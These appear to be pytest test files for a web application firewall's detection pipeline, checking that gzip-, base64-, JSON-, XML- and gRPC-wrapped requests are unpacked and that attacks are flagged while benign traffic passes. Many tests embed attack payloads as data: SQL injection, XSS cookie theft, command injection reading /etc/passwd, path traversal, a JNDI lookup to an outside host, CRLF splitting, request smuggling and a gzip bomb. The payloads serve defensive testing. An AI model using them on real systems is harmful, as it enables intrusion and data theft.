        assert all(not v.degraded and not v.fail_open
                   for v in by_tenant[0])
    finally:
        bc.close()
        b0.close()
