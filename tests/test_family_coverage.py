"""New CRS family coverage (911 method enforcement, 921 protocol attack,
922 multipart, 934 Node.js) — each family's canonical payloads must
verdict with the right class on the bundled pack, and benign shapes that
brush the weak rules must stay under the anomaly threshold (the CRS
PL2-noise-without-blocking behavior)."""

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import Request


@pytest.fixture(scope="module")
def pipeline():
    return DetectionPipeline(compile_ruleset(load_bundled_rules()),
                             mode="block")


@pytest.mark.parametrize("want_class,want_rule,req", [
    # 911: unknown method blocks; the scalar confirm sees the exact token
    ("protocol", 911100, Request(method="TRACK", uri="/x")),
    # 921: response splitting via encoded CRLF in a query arg
    ("protocol", 921120,
     Request(uri="/q?next=%0d%0aSet-Cookie:%20admin=1")),
    # 921: smuggled request line in a body field
    ("protocol", 921110,
     Request(method="POST", uri="/c",
             body=b"comment=GET /internal HTTP/1.1")),
    # 921: raw CRLF inside a header value
    ("protocol", 921140,
     Request(uri="/x", headers={"X-Fwd": "a\r\nSet-Cookie: sess=evil"})),
    # 922: duplicate multipart boundary parameters
    ("protocol", 922110,
     Request(method="POST", uri="/u", headers={
         "Content-Type":
             "multipart/form-data; boundary=a;b, boundary=c"})),
    # 921: genuinely duplicated chunked coding still fires
    ("protocol", 921160,
     Request(method="POST", uri="/u",
             headers={"Transfer-Encoding": "chunked, chunked"})),
    # 922: executable upload filename inside the multipart body
    ("protocol", 922130,
     Request(method="POST", uri="/u",
             headers={"Content-Type": "multipart/form-data; boundary=X"},
             body=b'--X\r\nContent-Disposition: form-data; name="f"; '
                  b'filename="shell.php"\r\n\r\nhi\r\n--X--')),
    # 934: child_process require / process access / proto pollution
    ("nodejs", 934100,
     Request(uri="/q?x=require('child_process').exec('id')")),
    ("nodejs", 934110, Request(uri="/q?x=process.mainModule.require")),
    ("nodejs", 934130, Request(uri="/q?__proto__[admin]=1")),
])
def test_family_payload_detected(pipeline, want_class, want_rule, req):
    v = pipeline.detect([req])[0]
    assert v.attack and v.blocked, (v.classes, v.rule_ids)
    assert want_class in v.classes
    assert want_rule in v.rule_ids


# Benign requests model WELL-FORMED clients (Host/User-Agent/framing
# headers present): the round-4 920 protocol-hygiene ladder correctly
# scores requests that omit them — that accumulation is CRS behavior,
# not a false positive, so header-less synthetic shapes would test the
# wrong thing.
_BH = {"host": "shop.example.com",
       "user-agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0",
       "accept": "*/*"}
_MP_BODY = (b'------WebKitFormBoundary7MA4YWxk\r\n'
            b'Content-Disposition: form-data; name="photo"; '
            b'filename="me.jpg"\r\n\r\n...\r\n'
            b'------WebKitFormBoundary7MA4YWxk--')


@pytest.mark.parametrize("req", [
    # ordinary multipart upload: ends with "--boundary--" which brushes
    # the PL2 trailing-comment sqli rule — must stay under threshold
    Request(method="POST", uri="/upload",
            headers=dict(_BH, **{
                "Content-Type": "multipart/form-data; "
                "boundary=----WebKitFormBoundary7MA4YWxk",
                "Content-Length": str(len(_MP_BODY))}),
            body=_MP_BODY),
    Request(uri="/blog?title=the spawn of a new era", headers=dict(_BH)),
    # globstar path patterns are a literal substring of the comment-
    # splice shape ("src/**/tests" IS "c/**/t") — the 942520 chain's
    # second-signal link must keep them clean (round-5 review finding)
    Request(uri="/search?path=src/**/tests", headers=dict(_BH)),
    # ...and with boolean-looking prose around the glob: the strict
    # grammar's truncation branch must not treat a mid-expression /**/
    # as a statement-tail comment (round-5 review finding)
    Request(uri="/search?q=src/**/lib or docs/**/api", headers=dict(_BH)),
    Request(method="POST", uri="/api/config",
            headers=dict(_BH, **{"Content-Type": "application/json",
                                 "Content-Length": "30"}),
            body=b'{"include": "src/**/index.js"}'),
    Request(uri="/docs?path=constructors in java", headers=dict(_BH)),
    Request(method="OPTIONS", uri="/api", headers=dict(_BH)),
    Request(uri="/env?name=process improvement plan", headers=dict(_BH)),
    # RFC 9112-legal: chunked as the FINAL coding after gzip — the
    # duplicate-chunked smuggling rule must not fire (review finding)
    Request(method="POST", uri="/u",
            headers=dict(_BH, **{"Transfer-Encoding": "gzip, chunked"})),
    # RFC 2046-legal boundary chars ('=', '.', Java-mail style) — the
    # invalid-boundary rule must not fire (review finding)
    Request(method="POST", uri="/u", headers=dict(_BH, **{
        "Content-Type":
            "multipart/form-data; boundary=----=_Part_5_123.456",
        "Content-Length": "0"})),
])
def test_family_benign_not_blocked(pipeline, req):
    v = pipeline.detect([req])[0]
    assert not v.attack and not v.blocked, (v.classes, v.rule_ids)


@pytest.mark.parametrize("want_rule,req,should_hit", [
    # 910: static block list via @ipMatchFromFile
    (910120, Request(uri="/x", client_ip="203.0.113.50"), True),
    (910120, Request(uri="/x", client_ip="198.51.100.23"), True),
    (910120, Request(uri="/x", client_ip="8.8.8.8"), False),
    (910120, Request(uri="/x"), False),   # unknown source: abstain
    # 910: anonymity net + tooling agent (chain)
    (910140, Request(uri="/x", client_ip="198.51.100.200",
                     headers={"user-agent": "curl/8.0"}), True),
    (910140, Request(uri="/x", client_ip="198.51.100.200",
                     headers={"user-agent": "Mozilla/5.0"}), False),
    # 942470: SELECT + system catalog must share ONE input
    (942470, Request(uri="/q?s=select+name+from+information_schema.tables"),
     True),
    (942470, Request(uri="/q?a=select+1&b=information_schema"), False),
    # 942471: UNION then SELECT ... NULL in the same input
    (942471, Request(uri="/q?u=1+union+select+null,null"), True),
    (942471, Request(uri="/q?u=1+union+x&v=select+null"), False),
])
def test_ip_reputation_and_chain_rules(pipeline, want_rule, req,
                                       should_hit):
    v = pipeline.detect([req])[0]
    if should_hit:
        assert want_rule in v.rule_ids, (v.classes, v.rule_ids)
    else:
        assert want_rule not in v.rule_ids, (v.classes, v.rule_ids)
