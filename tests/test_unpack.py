"""Body unpacking: gzip/deflate, base64, JSON/XML extraction.

Reference parity (SURVEY.md §3.3 "decode/unpack (url/json/xml/b64/gzip)"):
a wrapped attack body must be detected end-to-end, in both the batched
and the streaming path, and the incremental decoders must be equivalent
to their one-shot twins on any chunking.
"""

import base64
import gzip
import json
import zlib

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.serve.stream import StreamEngine
from ingress_plus_tpu.serve.unpack import (
    IncrementalBase64,
    IncrementalInflate,
    decode_base64_like,
    extract_json,
    extract_xml,
    inflate,
    unpack_body,
)

SQLI = b"x=1' UNION SELECT password FROM users--"
XSS = b"<script>alert(document.cookie)</script>"


@pytest.fixture(scope="module")
def pipeline():
    return DetectionPipeline(compile_ruleset(load_bundled_rules()),
                             mode="block")


# ----------------------------------------------------------- unit: codecs

def test_inflate_gzip_and_zlib_and_truncated():
    data = SQLI * 20
    assert inflate(gzip.compress(data)) == data
    assert inflate(zlib.compress(data)) == data
    # truncated stream yields the decodable prefix, never raises
    trunc = gzip.compress(data)[:40]
    out = inflate(trunc)
    assert out is None or data.startswith(out)
    assert inflate(b"plain text body") is None


def test_inflate_bomb_bounded():
    bomb = gzip.compress(b"\x00" * (64 << 20))  # 64MB of zeros, ~64KB packed
    out = inflate(bomb, max_out=1 << 20)
    assert out is not None and len(out) <= 1 << 20


def test_extract_json_unescapes():
    body = (b'{"comment": "\\u003cscript\\u003ealert(1)\\u003c/script'
            b'\\u003e", "nested": {"k": ["v1", {"deep": "1\' OR 1=1"}]}}')
    assert b"<script" not in body   # escape-hidden in the raw bytes
    out = extract_json(body)
    assert b"<script>alert(1)" in out
    assert b"1' OR 1=1" in out
    assert b"comment" in out and b"deep" in out
    assert extract_json(b"not json") is None


def test_extract_xml():
    body = (b"<?xml version='1.0'?><root attr=\"' OR 1=1\">"
            b"<item>&lt;script&gt;</item><item>../../etc/passwd</item>"
            b"</root>")
    out = extract_xml(body)
    assert b"' OR 1=1" in out
    assert b"../../etc/passwd" in out
    assert extract_xml(b"<unclosed") is None


def test_decode_base64_like():
    assert decode_base64_like(base64.b64encode(SQLI)) == SQLI
    # urlsafe + unpadded + whitespace still decode
    tok = base64.urlsafe_b64encode(SQLI).rstrip(b"=")
    tok = tok[:10] + b"\n" + tok[10:]
    assert decode_base64_like(tok) == SQLI
    assert decode_base64_like(b"short") is None
    assert decode_base64_like(b"hello world this is text!") is None


# ------------------------------------------------------ unit: unpack_body

def test_unpack_body_plain_is_identity():
    assert unpack_body(b"a=1&b=2", {}) == b"a=1&b=2"


def test_unpack_body_gzip_then_json():
    obj = json.dumps({"q": SQLI.decode()}).encode()
    out = unpack_body(gzip.compress(obj), {"Content-Encoding": "gzip"})
    assert SQLI in out          # extracted JSON value
    assert obj in out           # decompressed base


def test_unpack_body_parser_disable():
    body = base64.b64encode(SQLI)
    assert SQLI in unpack_body(body, {})
    assert SQLI not in unpack_body(body, {}, parsers_off=frozenset(["base64"]))
    # a client-supplied header must NOT be able to disable parsers (that
    # would be a WAF bypass): disables ride only the explicit set
    assert SQLI in unpack_body(
        body, {"x-detect-tpu-parser-disable": "base64 json"})


def test_parser_disable_rides_wire_mode_bits_not_headers():
    """The trusted plumbing: parsers_off survives an encode/decode
    roundtrip via mode-byte flag bits, and the decoded mode byte is
    clean of them."""
    from ingress_plus_tpu.serve.protocol import (
        decode_request, encode_request)
    from ingress_plus_tpu.serve.normalize import Request

    frame = encode_request(
        Request(method="POST", uri="/x", body=b"e30=",
                parsers_off=frozenset(["base64", "json"])),
        req_id=5, mode=2)
    req_id, mode, req = decode_request(frame[8:])
    assert req_id == 5 and mode == 2
    assert req.parsers_off == frozenset(["base64", "json"])


def test_multi_member_gzip_scanned_past_first_member():
    """gzip permits concatenated members; scanning only member 1 would
    let gzip(benign)+gzip(attack) through."""
    body = gzip.compress(b"benign text") + gzip.compress(SQLI)
    out = inflate(body)
    assert b"benign text" in out and SQLI in out
    # incremental twin, attacker-chosen chunking
    inc = IncrementalInflate()
    got = b"".join(inc.feed(body[i:i + 7]) for i in range(0, len(body), 7))
    assert SQLI in got and not inc.error and inc.finished


# -------------------------------------------- incremental ≡ one-shot

@pytest.mark.parametrize("chunk", [1, 3, 7, 64, 1000])
def test_incremental_inflate_equivalence(chunk):
    data = (SQLI + b" pad ") * 200
    comp = gzip.compress(data)
    inc = IncrementalInflate()
    got = b"".join(inc.feed(comp[i:i + chunk])
                   for i in range(0, len(comp), chunk))
    assert got == data and not inc.error


@pytest.mark.parametrize("chunk", [1, 2, 5, 64])
def test_incremental_base64_equivalence(chunk):
    data = XSS * 30
    enc = base64.b64encode(data)
    inc = IncrementalBase64()
    got = b"".join(inc.feed(enc[i:i + chunk])
                   for i in range(0, len(enc), chunk))
    got += inc.flush()
    assert got == data


def test_incremental_base64_rejects_plain_text():
    inc = IncrementalBase64()
    assert inc.feed(b"name=alice&city=berlin paris") == b""
    assert inc.dead


# --------------------------------------------------- detection end-to-end

def test_gzip_wrapped_sqli_detected(pipeline):
    req = Request(method="POST", uri="/api",
                  headers={"Content-Encoding": "gzip"},
                  body=gzip.compress(SQLI))
    v = pipeline.detect([req])[0]
    assert v.attack and "sqli" in v.classes


def test_gzip_sniffed_without_header(pipeline):
    v = pipeline.detect([Request(method="POST", uri="/api",
                                 body=gzip.compress(SQLI))])[0]
    assert v.attack and "sqli" in v.classes


def test_base64_wrapped_sqli_detected(pipeline):
    v = pipeline.detect([Request(method="POST", uri="/api",
                                 body=base64.b64encode(SQLI))])[0]
    assert v.attack and "sqli" in v.classes


def test_json_escaped_xss_detected(pipeline):
    body = (b'{"comment": "\\u003cscript\\u003ealert(document.cookie)'
            b'\\u003c/script\\u003e"}')
    assert b"<script" not in body   # raw bytes hide the payload
    v = pipeline.detect([Request(method="POST", uri="/api", body=body)])[0]
    assert v.attack and "xss" in v.classes


def test_xml_attr_sqli_detected(pipeline):
    body = (b"<?xml version='1.0'?><q term=\"1' UNION SELECT password "
            b"FROM users--\"/>")
    v = pipeline.detect([Request(
        method="POST", uri="/api",
        headers={"Content-Type": "application/xml"}, body=body)])[0]
    assert v.attack and "sqli" in v.classes


def test_parser_disable_suppresses_detection(pipeline):
    req = Request(method="POST", uri="/api", body=base64.b64encode(SQLI),
                  parsers_off=frozenset(["base64"]))
    assert not pipeline.detect([req])[0].attack


def test_confirm_body_stream_is_single_decoded():
    """ADVICE r05 regression pin: the extra url-decoded form-body
    segment is a SCAN-path aid only.  A scalar REQUEST_BODY rule with
    its own t:urlDecodeUni must evaluate the single-decoded body —
    ModSecurity never materializes a pre-decoded REQUEST_BODY copy, so
    a %2527 body (one decode → %27, still no quote) must NOT confirm."""
    from ingress_plus_tpu.compiler.seclang import parse_seclang

    pl = DetectionPipeline(compile_ruleset(parse_seclang(
        'SecRule REQUEST_BODY "@rx \'" "id:942170,phase:2,block,'
        "t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'\"")),
        mode="block")
    req = Request(
        method="POST", uri="/login",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
        body=b"q=%2527%2520OR%25201")
    v = pl.detect([req])[0]
    assert not v.attack, \
        "confirm saw a double-decoded body copy (rule_ids=%s)" % v.rule_ids
    # the confirm stream itself carries no scan-only extra segment
    assert req.confirm_streams()["body"] == req.body
    # ...while the scan stream keeps it (prefilter-soundness superset)
    assert req.streams()["body"] != req.body


def test_double_encoded_args_payload_still_detected():
    """Counterpart (the round-5 soundness fix must survive): a fully
    double-encoded ARGS payload in a form body is still detected end to
    end — the scan-only decoded segment gives the prefilter its factors,
    and the confirm matches via the parsed ARGS value + the rule's own
    t:urlDecodeUni (single source of double-decode, like ModSecurity)."""
    from ingress_plus_tpu.compiler.seclang import parse_seclang

    pl = DetectionPipeline(compile_ruleset(parse_seclang(
        'SecRule ARGS "@rx (?i)union\\s+select" "id:942100,phase:2,'
        "block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'\"")),
        mode="block")
    v = pl.detect([Request(
        method="POST", uri="/search",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
        body=b"q=union%2520select%2520password")])[0]
    assert v.attack and 942100 in v.rule_ids


def test_benign_json_still_passes(pipeline):
    # well-formed client headers: the round-4 920 protocol-hygiene
    # ladder correctly scores requests that omit Host/UA/Content-Length
    # (that's CRS behavior, not an FP), so the benign request must not
    # commit protocol violations the test doesn't mean to test
    body = json.dumps({"name": "Alice", "bio": "likes SQL courses"}).encode()
    v = pipeline.detect([Request(
        method="POST", uri="/api/v1/users",
        headers={"Content-Type": "application/json",
                 "Content-Length": str(len(body)),
                 "Host": "shop.example.com",
                 "User-Agent": "Mozilla/5.0 (X11; Linux x86_64)"},
        body=body)])[0]
    assert not v.blocked


# ------------------------------------------------------ streaming path

def _stream_verdict(pipeline, req, payload, chunk=1024):
    eng = StreamEngine(pipeline)
    st = eng.begin(req)
    st.base_hits = pipeline.prefilter([req])[0]
    for i in range(0, len(payload), chunk):
        eng.scan(st.feed(payload[i:i + chunk]))
    eng.scan(st.flush())
    return eng.finish(st)


def test_streaming_gzip_body_detected(pipeline):
    payload = gzip.compress(b"x" * 60000 + SQLI + b"y" * 60000)
    req = Request(method="POST", uri="/up", body=b"",
                  headers={"Content-Encoding": "gzip"})
    v = _stream_verdict(pipeline, req, payload)
    assert v.attack and "sqli" in v.classes


def test_streaming_gzip_sniffed_one_byte_chunks(pipeline):
    """No Content-Encoding header + 1-byte chunk frames: the magic sniff
    must still trigger (attacker-chosen chunking must not defeat it)."""
    payload = gzip.compress(b"x" * 2000 + SQLI + b"y" * 2000)
    req = Request(method="POST", uri="/up", body=b"")
    v = _stream_verdict(pipeline, req, payload, chunk=1)
    assert v.attack and "sqli" in v.classes


def test_streaming_base64_body_detected(pipeline):
    payload = base64.b64encode(b"A" * 30000 + SQLI + b"B" * 30000)
    req = Request(method="POST", uri="/up", body=b"")
    v = _stream_verdict(pipeline, req, payload, chunk=777)
    assert v.attack and "sqli" in v.classes


def test_streaming_corrupt_gzip_fails_open(pipeline):
    import random
    rng = random.Random(7)
    # printable (no null-byte rule hits), high-entropy enough that 100
    # compressed bytes are a genuine truncation
    blob = bytes(rng.randrange(0x20, 0x7f) for _ in range(20000))
    payload = gzip.compress(blob)[:100] + b"\xff" * 200
    req = Request(method="POST", uri="/up", body=b"",
                  headers={"Content-Encoding": "gzip",
                           "Content-Length": str(len(payload)),
                           "Host": "shop.example.com",
                           "User-Agent": "Mozilla/5.0 (X11; Linux x86_64)"})
    v = _stream_verdict(pipeline, req, payload)
    assert not v.attack and v.fail_open   # truncated scan is surfaced


def test_streaming_parser_disable_carries_to_confirm(pipeline):
    """parsers_off must reach BOTH stream scan and the confirm re-unpack:
    with base64 disabled, a base64-wrapped attack is (by operator choice)
    not decoded anywhere — no verdict."""
    payload = base64.b64encode(b"A" * 3000 + SQLI + b"B" * 3000)
    req = Request(method="POST", uri="/up", body=b"",
                  parsers_off=frozenset(["base64"]))
    v = _stream_verdict(pipeline, req, payload)
    assert not v.attack


# ------------------------------------------------------ gRPC / protobuf

def _pb_string(field: int, data: bytes) -> bytes:
    """Encode one length-delimited protobuf field (wire type 2)."""
    def varint(v):
        out = bytearray()
        while True:
            b = v & 0x7F
            v >>= 7
            out.append(b | (0x80 if v else 0))
            if not v:
                return bytes(out)
    return varint((field << 3) | 2) + varint(len(data)) + data


def _grpc_frame(msg: bytes, compressed: bool = False) -> bytes:
    if compressed:
        msg = gzip.compress(msg)
    return bytes([1 if compressed else 0]) + len(msg).to_bytes(4, "big") + msg


def test_grpc_injected_payload_detected(pipeline):
    """BASELINE config #5: a SQLi payload inside a nested protobuf string
    field of a gRPC-framed body must be extracted and detected."""
    inner = _pb_string(1, b"user_42") + _pb_string(2, SQLI)
    msg = _pb_string(1, b"query") + _pb_string(3, inner)
    body = _grpc_frame(msg)
    v = pipeline.detect([Request(
        method="POST", uri="/api.Search/Query",
        headers={"Content-Type": "application/grpc",
                 "Content-Length": str(len(body)),
                 "Host": "shop.example.com",
                 "User-Agent": "grpc-go/1.60"},
        body=body)])[0]
    assert v.attack and "sqli" in v.classes, (v.classes, v.rule_ids)


def test_grpc_streaming_injected_payload_detected(pipeline):
    """Chunked gRPC body (multiple frames, one compressed) through the
    stream path: the injected payload sits in frame 2."""
    benign = _pb_string(1, b"hello") + _pb_string(2, b"world " * 200)
    attack = _pb_string(1, _pb_string(4, b"q=" + SQLI))
    payload = (_grpc_frame(benign) + _grpc_frame(attack, compressed=True)
               + _grpc_frame(benign))
    req = Request(method="POST", uri="/api.Search/Stream", body=b"",
                  headers={"Content-Type": "application/grpc",
                           "Host": "shop.example.com",
                           "User-Agent": "grpc-go/1.60"})
    v = _stream_verdict(pipeline, req, payload, chunk=97)
    assert v.attack and "sqli" in v.classes, (v.classes, v.rule_ids)


def test_grpc_benign_passes(pipeline):
    msg = _pb_string(1, b"profile") + _pb_string(2, b"I like cats") + \
        _pb_string(3, (7).to_bytes(1, "little"))
    body = _grpc_frame(msg)
    v = pipeline.detect([Request(
        method="POST", uri="/api.Profile/Get",
        headers={"Content-Type": "application/grpc",
                 "Content-Length": str(len(body)),
                 "Host": "shop.example.com",
                 "User-Agent": "grpc-java/1.58"},
        body=body)])[0]
    assert not v.attack, (v.classes, v.rule_ids)


def test_grpc_malformed_framing_tolerated(pipeline):
    """Garbage after a valid frame: decoder goes dead, valid prefix still
    scanned, no crash."""
    msg = _pb_string(2, SQLI)
    payload = _grpc_frame(msg) + b"\xff\xfe garbage not a frame"
    req = Request(method="POST", uri="/api.X/Y", body=b"",
                  headers={"Content-Type": "application/grpc",
                           "Host": "shop.example.com",
                           "User-Agent": "grpc-go/1.60"})
    v = _stream_verdict(pipeline, req, payload, chunk=13)
    assert v.attack and "sqli" in v.classes, (v.classes, v.rule_ids)


def test_bare_protobuf_streaming_extracted(pipeline):
    """application/x-protobuf (no gRPC framing) through the stream path:
    buffered and extracted at flush — the frame walker must not go dead
    on the first tag byte."""
    msg = _pb_string(1, b"profile") + _pb_string(5, b"q=" + SQLI)
    req = Request(method="POST", uri="/api/pb", body=b"",
                  headers={"Content-Type": "application/x-protobuf",
                           "Host": "shop.example.com",
                           "User-Agent": "proto-client/1"})
    v = _stream_verdict(pipeline, req, msg, chunk=11)
    assert v.attack and "sqli" in v.classes, (v.classes, v.rule_ids)


# --------------------------- fused host-prep path (ISSUE 13 satellite)

def test_merged_rows_identical_to_two_pass(pipeline):
    """merged_rows_for_requests (the serving hot path's one-pass
    normalize+merge) is pinned byte- AND order-identical to the
    two-pass merge_rows(rows_for_requests(...)) composition — the
    bucket assembly iterates this order, so any drift would reorder
    device rows."""
    from ingress_plus_tpu.serve.normalize import (
        merge_rows,
        merged_rows_for_requests,
        rows_for_requests,
    )
    from ingress_plus_tpu.utils.corpus import generate_corpus

    reqs = [lr.request for lr in
            generate_corpus(n=64, attack_fraction=0.3, seed=21)]
    # adversarial encodings: double-encoding, overlong UTF-8, HTML
    # entities, '+' folding, form bodies, identical cross-stream rows
    reqs += [
        Request(uri="/a?q=%2527%20union%20select%20pass&x=%C0%A7",
                headers={"X-Note": "a&#x3c;script&gt;b"}),
        Request(uri="/p?b=" + "%25" * 40,
                body=b'{"k":"<script>alert(1)</script>"}',
                headers={"content-type": "application/json"}),
        Request(uri="/f", body=b"a=1+union%20select+2",
                headers={"content-type":
                         "application/x-www-form-urlencoded"}),
        Request(uri="/dup?x=abc&y=abc"),
        Request(uri="/nul?q=%00%00"),
    ]
    for needed in (pipeline.needed_sv, None):
        old = merge_rows(rows_for_requests(reqs, needed_sv=needed))
        new = merged_rows_for_requests(reqs, needed_sv=needed)
        assert old[0] == new[0]
        assert old[1] == new[1]
        assert old[2] == new[2]


def test_content_headers_single_pass():
    from ingress_plus_tpu.serve.unpack import content_headers

    ct, ce = content_headers({"Host": "x", "Content-TYPE": "Text/HTML",
                              "CONTENT-ENCODING": "GZip"})
    assert ct == "text/html" and ce == "gzip"
    assert content_headers({}) == ("", "")
