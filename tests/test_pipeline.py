"""End-to-end pipeline: requests → TPU-path engine → confirm → verdicts.

The detection-quality gate in miniature: attack corpus must be detected,
benign corpus must (mostly) pass, streaming/monitoring/fail-open contracts
hold.
"""

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.utils.corpus import f1_score, generate_corpus


@pytest.fixture(scope="module")
def ruleset():
    return compile_ruleset(load_bundled_rules())


@pytest.fixture(scope="module")
def pipeline(ruleset):
    return DetectionPipeline(ruleset, mode="block")


ATTACKS = [
    ("sqli", Request(uri="/search?q=1%27+UNION+SELECT+password+FROM+users--")),
    ("sqli", Request(uri="/item?id=1+OR+1%3D1")),
    ("xss", Request(uri="/p?x=%3Cscript%3Ealert(document.cookie)%3C/script%3E")),
    ("xss", Request(method="POST", uri="/comment",
                    body=b"text=<img src=x onerror=alert(1)>")),
    ("rce", Request(uri="/ping?host=8.8.8.8%3Bcat+/etc/passwd")),
    ("lfi", Request(uri="/download?file=../../../etc/passwd")),
    ("java", Request(uri="/x", headers={"user-agent": "${jndi:ldap://e.com/a}"})),
]

BENIGN = [
    Request(uri="/products?page=2&sort=price"),
    Request(uri="/search?q=red+shoes"),
    Request(method="POST", uri="/api/v1/users",
            body=b'{"name": "Alice", "email": "a@example.com"}'),
    Request(uri="/blog/2026/07/tpu-waf"),
    Request(uri="/search?q=o%27brien"),  # benign apostrophe
]


def test_attacks_detected(pipeline):
    for cls, req in ATTACKS:
        v = pipeline.detect([req])[0]
        assert v.attack, "missed %s: %s" % (cls, req.uri)
        assert cls in v.classes, (cls, v.classes, v.rule_ids)
        assert v.blocked


def test_benign_passes(pipeline):
    for req in BENIGN:
        v = pipeline.detect([req])[0]
        assert not v.blocked, "false positive on %s: rules %s" % (
            req.uri, v.rule_ids)


def test_batch_mixed(pipeline):
    reqs = [r for _, r in ATTACKS] + BENIGN
    verdicts = pipeline.detect(reqs)
    assert len(verdicts) == len(reqs)
    assert all(v.attack for v in verdicts[: len(ATTACKS)])
    assert not any(v.blocked for v in verdicts[len(ATTACKS):])


def test_monitoring_mode_never_blocks(ruleset):
    p = DetectionPipeline(ruleset, mode="monitoring")
    v = p.detect([ATTACKS[0][1]])[0]
    assert v.attack and not v.blocked


def test_fail_open_on_engine_error(ruleset):
    p = DetectionPipeline(ruleset, mode="block", fail_open=True)
    raise_ = lambda *a, **k: (_ for _ in ()).throw(RuntimeError("tpu gone"))
    p.engine.detect = p.engine.detect_device = raise_
    p.engine.detect_device_multi = raise_   # the fused serve-path entry
    v = p.detect([ATTACKS[0][1]])[0]
    assert not v.blocked and v.fail_open
    assert p.stats.fail_open == 1


def test_corpus_f1(pipeline):
    corpus = generate_corpus(n=400, attack_fraction=0.3, seed=7)
    verdicts = pipeline.detect([lr.request for lr in corpus])
    tp = fp = fn = 0
    missed, fps = [], []
    for lr, v in zip(corpus, verdicts):
        if lr.is_attack and v.attack:
            tp += 1
        elif lr.is_attack and not v.attack:
            fn += 1
            missed.append((lr.attack_class, lr.request.uri, lr.request.body))
        elif not lr.is_attack and v.attack:
            fp += 1
            fps.append((lr.request.uri, v.rule_ids))
    f1 = f1_score(tp, fp, fn)
    assert f1 >= 0.95, (
        "F1 %.3f  tp=%d fp=%d fn=%d\nmissed: %r\nfps: %r"
        % (f1, tp, fp, fn, missed[:8], fps[:8]))


def test_hot_swap_ruleset(ruleset, pipeline):
    from ingress_plus_tpu.compiler.seclang import parse_seclang

    small = compile_ruleset(parse_seclang(
        'SecRule ARGS "@rx marker123" "id:1,phase:2,block,severity:CRITICAL"'))
    p = DetectionPipeline(ruleset, mode="block")
    p.swap_ruleset(small)
    v = p.detect([Request(uri="/x?a=marker123")])[0]
    assert v.attack
    v = p.detect([ATTACKS[0][1]])[0]
    assert not v.attack  # old rules gone
    p.swap_ruleset(ruleset)
    v = p.detect([ATTACKS[0][1]])[0]
    assert v.attack
