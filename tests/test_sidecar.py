"""Native sidecar e2e: C++ mux/fail-open tier between clients and the serve
loop (SURVEY.md §3.3 TPU variant — the nginx-side native boundary).

Covers: verdict parity through the sidecar (loadgen + Python client),
streaming bodies through the mux, the deadline fail-open contract against a
stalled upstream, immediate fail-open when the upstream is down, and the
status-counter endpoint (the `/wallarm-status` analog).
"""

import json
import os
import shutil
import socket
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
BIN = REPO / "native" / "sidecar" / "sidecar"
LOADGEN = REPO / "native" / "sidecar" / "loadgen"

TINY_RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)<script" \
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx /etc/passwd" \
    "id:930120,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-lfi'"
SecRule RESPONSE_BODY "@rx (?i)you have an error in your sql syntax" \
    "id:951100,phase:4,block,t:lowercase,severity:CRITICAL,tag:'attack-leak'"
"""


@pytest.fixture(scope="module")
def binaries():
    if shutil.which("g++") is None:
        pytest.skip("no g++")
    subprocess.run(["make", "-s", "-C", str(REPO / "native" / "sidecar")],
                   check=True)
    assert BIN.exists() and LOADGEN.exists()
    return BIN


def _wait_socket(path, proc, what, timeout_s=60):
    for _ in range(int(timeout_s * 10)):
        if Path(path).exists():
            try:
                s = socket.socket(socket.AF_UNIX)
                s.connect(str(path))
                s.close()
                return
            except OSError:
                pass
        if proc.poll() is not None:
            err = proc.stderr.read() if proc.stderr else ""
            raise RuntimeError("%s died: %s" % (what, err))
        time.sleep(0.1)
    proc.kill()
    raise RuntimeError("%s socket never appeared" % what)


@pytest.fixture(scope="module")
def server(tmp_path_factory, binaries):
    tmp = tmp_path_factory.mktemp("sideserve")
    rules_dir = tmp / "rules"
    rules_dir.mkdir()
    (rules_dir / "tiny.conf").write_text(TINY_RULES)
    sock = str(tmp / "serve.sock")
    env = dict(os.environ)
    env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
    proc = subprocess.Popen(
        [sys.executable, "-m", "ingress_plus_tpu.serve",
         "--socket", sock, "--rules-dir", str(rules_dir),
         "--platform", "cpu", "--max-delay-us", "1000", "--no-warmup",
         # CI-host ladder desensitization (see test_serve_e2e fixture)
         "--hard-deadline-ms", "5000"],
        cwd=str(REPO), env=env, stderr=subprocess.PIPE, text=True)
    _wait_socket(sock, proc, "serve loop")
    yield sock
    proc.terminate()
    proc.wait(timeout=10)


@pytest.fixture(scope="module")
def sidecar(server, binaries, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("sidecar")
    listen = str(tmp / "side.sock")
    proc = subprocess.Popen(
        [str(BIN), "--listen", listen, "--upstream", server,
         "--deadline-ms", "5000", "--status-port", "19911"],
        stderr=subprocess.PIPE, text=True)
    _wait_socket(listen, proc, "sidecar")
    yield listen
    proc.terminate()
    proc.wait(timeout=10)


def _status(port=19911):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    buf = b""
    while True:
        b = s.recv(4096)
        if not b:
            break
        buf += b
    s.close()
    head, _, body = buf.partition(b"\r\n\r\n")
